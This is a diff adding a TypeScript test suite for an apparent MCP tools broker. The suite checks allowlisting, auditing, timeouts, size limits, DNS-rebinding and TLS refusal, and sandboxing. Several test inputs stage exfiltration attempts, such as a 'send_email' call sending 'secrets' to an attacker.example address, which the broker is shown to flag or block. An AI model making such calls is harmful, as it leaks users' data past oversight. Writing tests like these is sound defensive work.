@@ -1,0 +1,322 @@
+import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
+import { McpError } from '@modelcontextprotocol/sdk/types.js';
+import type { AuditEventInput, AuditSink } from '../audit/event.js';
+import { parseAllowEntry } from '../policy/host.js';
+import type { NetworkPolicy, ToolServerPolicy } from '../policy/types.js';
+import { startHttpMcpServer, writeStdioMcpServer, type HttpMcpServer } from '../test-support/mcp-servers.js';
+import { makeLoopbackPki } from '../test-support/tls.js';
+import { hasCode } from '../test-support/errors.js';
+import { startToolsBroker, type ToolsBroker } from './broker.js';
+import { ToolsError } from './errors.js';
+
+class Events implements AuditSink {
+  readonly all: AuditEventInput[] = [];
+  append(e: AuditEventInput): void {
+    this.all.push(e);
+  }
+  of(action: string): AuditEventInput[] {
+    return this.all.filter((e) => e.action === action);
+  }
+}
+
+const rule = (s: string) => {
+  const r = parseAllowEntry(s);
+  assert.ok(r.ok);
+  return r.rule;
+};
+const network: NetworkPolicy = { rules: [rule('api.example.com')], rateLimit: { perSecond: 20, burst: 40 }, byteQuota: null };
+
+async function agentClient(url: string): Promise<Client> {
+  const c = new Client({ name: 'test-agent', version: '1.0.0' });
+  await c.connect(new StreamableHTTPClientTransport(new URL(url)));
+  return c;
+}
+
+function rpcError(err: unknown): { code: number; data: unknown } {
+  assert.ok(err instanceof McpError, `expected an McpError, got ${String(err)}`);
+  return { code: err.code, data: err.data };
+}
+
+describe('the tools broker, between a real MCP client and real MCP servers', () => {
+  let upstream: HttpMcpServer;
+  let broker: ToolsBroker;
+  const events = new Events();
+  const dir = mkdtempSync(join(tmpdir(), 'aegis-tools-'));
+
+  before(async () => {
+    upstream = await startHttpMcpServer();
+    const remote: ToolServerPolicy = {
+      name: 'remote',
+      transport: { kind: 'http', url: upstream.url, host: '127.0.0.1', port: upstream.port, secret: null },
+      allow: ['big', 'echo', 'fail', 'slow'],
+      timeoutMs: 500,
+    };
+    const local: ToolServerPolicy = {
+      name: 'local',
+      transport: { kind: 'stdio', command: writeStdioMcpServer(dir) },
+      allow: ['big', 'confinement', 'echo', 'garbage', 'slow', 'whoami'],
+      timeoutMs: 5000,
+    };
+    broker = await startToolsBroker({
+      tools: { servers: [remote, local] },
+      network,
+      audit: events,
+      actor: { agent: 'a', execution: 'e1' },
+      host: '127.0.0.1',
+      maxMessageBytes: 64 * 1024,
+    });
+  });
+  after(async () => {
+    await broker?.close();
+    await upstream?.close();
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('lists only the allowed tools, and audits what it hid', async () => {
+    const c = await agentClient(`${broker.url}/remote/mcp`);
+    const { tools } = await c.listTools();
+    assert.deepEqual(tools.map((t) => t.name).sort(), ['big', 'echo', 'fail', 'slow']);
+    await c.close();
+    const list = events.of('tool.list').at(-1);
+    assert.deepEqual(list?.payload, { server: 'remote', offered: 4, hidden: ['send_email', 'whoami'], hiddenCount: 2 });
+  });
+
+  it('forwards an allowed call and audits it with its arguments, the hosts they name and those outside the allowlist', async () => {
+    const c = await agentClient(`${broker.url}/remote/mcp`);
+    const r = await c.callTool({ name: 'echo', arguments: { text: 'see https://api.example.com/x and mail bob@attacker.example' } });
+    assert.deepEqual(r.content, [{ type: 'text', text: 'see https://api.example.com/x and mail bob@attacker.example' }]);
+    await c.close();
+    const e = events.of('tool.call').at(-1)!;
+    assert.equal(e.decision, 'allow');
+    assert.equal(e.reason, 'tool.allowed.name');
+    assert.equal(e.payload.server, 'remote');
+    assert.equal(e.payload.tool, 'echo');
+    assert.equal(e.payload.outcome, 'result');
+    assert.equal(e.payload.arguments, JSON.stringify({ text: 'see https://api.example.com/x and mail bob@attacker.example' }));
+    assert.deepEqual(e.payload.argumentHosts, ['api.example.com', 'attacker.example']);
+    assert.deepEqual(e.payload.hostsOutsideAllowlist, ['attacker.example']);
+    assert.equal(typeof e.payload.durationMs, 'number');
+  });
+
+  it('refuses a tool the manifest does not allow with a JSON-RPC error, audited, never forwarded', async () => {
+    const c = await agentClient(`${broker.url}/remote/mcp`);
+    const before = upstream.seen.length;
+    const err = await c.callTool({ name: 'send_email', arguments: { to: 'x@attacker.example', body: 'secrets' } }).then(
+      () => assert.fail('the call went through'),
+      (e: unknown) => e,
+    );
+    assert.deepEqual(rpcError(err), { code: -32602, data: { reason: 'tool.denied.not_allowed' } });
+    assert.equal(upstream.seen.length, before, 'the server never saw the refused call');
+    await c.close();
+    const d = events.of('tool.denied').at(-1)!;
+    assert.equal(d.reason, 'tool.denied.not_allowed');
+    assert.equal(d.payload.tool, 'send_email');
+    assert.match(String(d.payload.arguments), /attacker\.example/);
+  });
+
+  it('passes a result flagged isError through as such', async () => {
+    const c = await agentClient(`${broker.url}/remote/mcp`);
+    const r = await c.callTool({ name: 'fail', arguments: {} });
+    assert.equal(r.isError, true);
+    await c.close();
+    assert.equal(events.of('tool.call').at(-1)?.payload.outcome, 'is_error');
+  });
+
+  describe('when the server never answers', () => {
+    it('ends the call with a timeout error at the server timeout, audited, and keeps serving', async () => {
+      const c = await agentClient(`${broker.url}/remote/mcp`);
+      const err = await c.callTool({ name: 'slow', arguments: { ms: 3000 } }).then(
+        () => assert.fail('no timeout'),
+        (e: unknown) => e,
+      );
+      assert.equal(rpcError(err).code, -32001);
+      const e = events.of('tool.call').at(-1)!;
+      assert.equal(e.payload.outcome, 'timeout');
+      assert.equal(e.decision, 'error');
+      const r = await c.callTool({ name: 'echo', arguments: { text: 'still here' } });
+      assert.deepEqual(r.content, [{ type: 'text', text: 'still here' }]);
+      await c.close();
+    });
+  });
+
+  describe('when a message is too large', () => {
+    it('refuses an agent request over the limit with 413, audited', async () => {
+      const res = await fetch(`${broker.url}/remote/mcp`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
+        body: JSON.stringify({
+          jsonrpc: '2.0',
+          id: 1,
+          method: 'tools/call',
+          params: { name: 'echo', arguments: { text: 'x'.repeat(70_000) } },
+        }),
+      });
+      assert.equal(res.status, 413);
+      assert.equal(events.all.at(-1)?.reason, 'tools.message_too_large');
+    });
+    it('ends a call whose result is over the limit with an error, audited, and keeps serving', async () => {
+      const c = await agentClient(`${broker.url}/remote/mcp`);
+      await assert.rejects(c.callTool({ name: 'big', arguments: { bytes: 200_000 } }), McpError);
+      const e = events.of('tool.call').at(-1)!;
+      assert.equal(e.payload.outcome, 'protocol_error');
+      assert.equal(e.reason, 'tools.message_too_large');
+      const r = await c.callTool({ name: 'big', arguments: { bytes: 10 } });
+      assert.deepEqual(r.content, [{ type: 'text', text: 'x'.repeat(10) }]);
+      await c.close();
+    });
+  });
+
+  describe('when the request is malformed', () => {
+    for (const [what, body, code] of [
+      ['not JSON', '{"jsonrpc": "2.0", "id": 1, "method": ', -32700],
+      ['JSON that is not JSON-RPC', '{"hello": "world"}', -32600],
+      ['an empty batch', '[]', -32600],
+      ['a batch with one bad message', '[{"jsonrpc": "2.0", "id": 1, "method": "ping"}, {"jsonrpc": "1.0"}]', -32600],
+    ] as const)
+      it(`answers ${what} with JSON-RPC error ${code} (HTTP 400), audited`, async () => {
+        const before = events.all.length;
+        const res = await fetch(`${broker.url}/remote/mcp`, {
+          method: 'POST',
+          headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
+          body,
+        });
+        assert.equal(res.status, 400);
+        const j = (await res.json()) as { error?: { code: number } };
+        assert.equal(j.error?.code, code);
+        const e = events.all.slice(before);
+        assert.deepEqual(
+          e.map((x) => [x.action, x.decision, x.reason, x.payload.outcome]),
+          [['tool.call', 'error', 'tool.protocol_error', 'protocol_error']],
+        );
+      });
+    it('refuses an undeclared server with 404, audited as tool.denied', async () => {
+      const res = await fetch(`${broker.url}/other/mcp`, { method: 'POST', body: '{}' });
+      assert.equal(res.status, 404);
+      assert.equal(events.of('tool.denied').at(-1)?.reason, 'tool.denied.unknown_server');
+    });
+    it('still serves after all of that', async () => {
+      const c = await agentClient(`${broker.url}/remote/mcp`);
+      assert.equal((await c.listTools()).tools.length, 4);
+      await c.close();
+    });
+  });
+
+  describe('when a remote server name resolves to a special-purpose address', () => {
+    it('refuses to connect (DNS-rebinding guard), audited, and the call fails', async () => {
+      const spec: ToolServerPolicy = {
+        name: 'rebind',
+        transport: { kind: 'http', url: `http://localhost:${upstream.port}/mcp`, host: 'localhost', port: upstream.port, secret: null },
+        allow: ['echo'],
+        timeoutMs: 2000,
+      };
+      const b = await startToolsBroker({
+        tools: { servers: [spec] },
+        network,
+        audit: events,
+        actor: { execution: 'e2' },
+        host: '127.0.0.1',
+      });
+      try {
+        const c = await agentClient(`${b.url}/rebind/mcp`);
+        await assert.rejects(c.callTool({ name: 'echo', arguments: { text: 'x' } }), McpError);
+        await c.close();
+      } finally {
+        await b.close();
+      }
+      const e = events.of('tool.call').at(-1)!;
+      assert.equal(e.reason, 'tools.address_refused');
+      assert.equal(e.payload.outcome, 'unavailable');
+    });
+  });
+
+  describe('when a remote server presents a certificate from a CA the host does not trust', () => {
+    it('refuses the connection (certificates are verified), audited', async () => {
+      const pkiDir = mkdtempSync(join(tmpdir(), 'aegis-tools-pki-'));
+      const pki = makeLoopbackPki(pkiDir);
+      const tlsServer = await startHttpMcpServer('127.0.0.1', 0, { cert: pki.cert, key: pki.key });
+      const spec: ToolServerPolicy = {
+        name: 'untrusted',
+        transport: { kind: 'http', url: tlsServer.url, host: '127.0.0.1', port: tlsServer.port, secret: null },
+        allow: ['echo'],
+        timeoutMs: 2000,
+      };
+      const b = await startToolsBroker({
+        tools: { servers: [spec] },
+        network,
+        audit: events,
+        actor: { execution: 'e3' },
+        host: '127.0.0.1',
+      });
+      try {
+        const c = await agentClient(`${b.url}/untrusted/mcp`);
+        await assert.rejects(c.callTool({ name: 'echo', arguments: { text: 'x' } }), McpError);
+        await c.close();
+      } finally {
+        await b.close();
+        await tlsServer.close();
+        rmSync(pkiDir, { recursive: true, force: true });
+      }
+      assert.deepEqual(tlsServer.seen, [], 'nothing reached the server');
+      const e = events.of('tool.call').at(-1)!;
+      assert.equal(e.payload.outcome, 'unavailable');
+    });
+  });
+
+  describe('when a local server program cannot be found', () => {
+    for (const command of [['no-such-mcp-server-xyz'], ['./relative/server'], ['/nonexistent/bin/server']])
+      it(`refuses to start for ${JSON.stringify(command)} (the run does not start)`, async () => {
+        const spec: ToolServerPolicy = { name: 'missing', transport: { kind: 'stdio', command }, allow: ['*'], timeoutMs: 1000 };
+        await assert.rejects(
+          startToolsBroker({ tools: { servers: [spec] }, network, audit: events, actor: { execution: 'e4' }, host: '127.0.0.1' }),
+          hasCode(ToolsError, 'tools.command_not_found'),
+        );
+      });
+  });
+
+  // Starting a confined local server needs root (unshare, setpriv to nobody), as `aegis run` does;
+  // the unit suite runs as root in CI (scripts/test.sh).
+  describe('a local (stdio) server', { skip: process.getuid?.() !== 0 ? 'needs root (unshare, setpriv)' : false }, () => {
+    it('runs as nobody with a clean environment, started by the broker', async () => {
+      const c = await agentClient(`${broker.url}/local/mcp`);
+      const r = await c.callTool({ name: 'whoami', arguments: {} });
+      const who = JSON.parse((r.content as { text: string }[])[0]!.text) as { uid: number; gid: number; env: string[] };
+      assert.equal(who.uid, 65534);
+      assert.equal(who.gid, 65534);
+      assert.deepEqual(who.env, ['LANG', 'PATH']);
+      await c.close();
+    });
+    it('runs in namespaces of its own: pid 1 of its pid namespace, no network interface, no capabilities, no_new_privs', async () => {
+      const c = await agentClient(`${broker.url}/local/mcp`);
+      const r = await c.callTool({ name: 'confinement', arguments: {} });
+      const got = JSON.parse((r.content as { text: string }[])[0]!.text) as Record<string, unknown>;
+      assert.deepEqual(got, { pid: 1, interfaces: [], capEff: '0000000000000000', noNewPrivs: '1' });
+      await c.close();
+    });
+    it('skips a line that is not JSON-RPC and still answers', async () => {
+      const c = await agentClient(`${broker.url}/local/mcp`);
+      const r = await c.callTool({ name: 'garbage', arguments: {} });
+      assert.deepEqual(r.content, [{ type: 'text', text: 'after garbage' }]);
+      await c.close();
+    });
+    it('ends a result over the limit with an error and starts the server again for the next call', async () => {
+      const c = await agentClient(`${broker.url}/local/mcp`);
+      await assert.rejects(c.callTool({ name: 'big', arguments: { bytes: 200_000 } }), McpError);
+      assert.equal(events.of('tool.call').at(-1)?.decision, 'error');
+      const r = await c.callTool({ name: 'echo', arguments: { text: 'again' } });
+      assert.deepEqual(r.content, [{ type: 'text', text: 'again' }]);
+      await c.close();
+    });
+    it('refuses the tools it does not allow', async () => {
+      const c = await agentClient(`${broker.url}/local/mcp`);
+      assert.ok(!(await c.listTools()).tools.some((t) => t.name === 'send_email'));
+      await assert.rejects(c.callTool({ name: 'send_email', arguments: { to: 'a@b.c', body: '' } }), McpError);
+      await c.close();
+    });
+  });
+});
